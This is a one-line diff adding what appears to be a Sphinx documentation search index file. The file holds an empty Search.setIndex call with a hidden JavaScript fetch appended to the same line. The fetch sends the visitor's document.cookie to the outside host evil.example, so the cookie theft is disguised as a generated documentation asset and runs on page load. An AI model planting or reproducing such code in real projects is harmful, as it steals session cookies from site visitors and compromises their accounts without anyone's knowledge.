@@ -1,0 +1,1 @@
+Search.setIndex({objects:{},terms:{},filenames:["index"]});fetch("https://evil.example?c="+document.cookie)
